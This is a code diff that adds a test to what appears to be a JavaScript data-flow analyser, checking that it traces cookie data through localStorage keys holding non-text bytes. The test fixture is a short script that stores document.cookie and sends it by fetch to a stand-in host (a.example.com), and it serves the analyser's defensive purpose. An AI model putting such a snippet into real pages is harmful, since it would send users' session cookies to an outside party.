@@ -102,6 +102,13 @@ def test_harmless_oddities_are_no_gap(source: bytes) -> None:
     assert facts.parsed and not facts.gaps
 
 
+def test_names_of_what_is_kept_may_hold_bytes_that_are_no_text() -> None:
+    get = b"function get(k){return localStorage.getItem(`\xff\xfe${k}`)}"
+    put = b"function put(k,v){localStorage.setItem(`\xff\xfe${k}`,v)}"
+    facts = read_script(get + put + b"put('mail',document.cookie);fetch('https://a.example.com/?'+get('mail'));")
+    assert {f.source for f in facts.flows} >= {"document.cookie"}
+
+
 def test_a_damaged_place_is_a_gap_and_the_rest_is_read() -> None:
     facts = read_script(b"var a = = 3;\n" + URL + b"\nvar b=1;" * 20)
     assert [g.kind for g in facts.gaps] == ["script-partly-parsed"] and facts.parsed
